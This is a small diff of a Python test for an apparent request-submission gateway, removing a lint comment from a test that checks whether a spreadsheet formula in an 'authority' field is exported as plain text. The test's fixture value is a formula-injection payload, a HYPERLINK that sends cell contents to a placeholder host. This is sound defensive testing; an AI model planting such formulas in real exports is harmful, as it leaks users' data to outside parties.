@@ -15,7 +15,7 @@ from ftigate.service.requests.submit import submit_request_file
 LIVE = '=HYPERLINK("http://example.invalid/?q="&A2,"8 U.S.C. 1357(a)")'
 
 
-def test_a_formula_in_the_authority_is_text_in_the_accounting_export(gateway, world, population, tmp_path):  # noqa: F811 (the lifecycle's fixtures)
+def test_a_formula_in_the_authority_is_text_in_the_accounting_export(gateway, world, population, tmp_path):
     investigation = {"reference": "ERO-CI-2025-0042", "statute": "8 U.S.C. 1253(a)(1)", "authority": LIVE,
                      "kind": "criminal"}
     result = submit_request_file(gateway, _file_request(world, population, investigation=investigation))
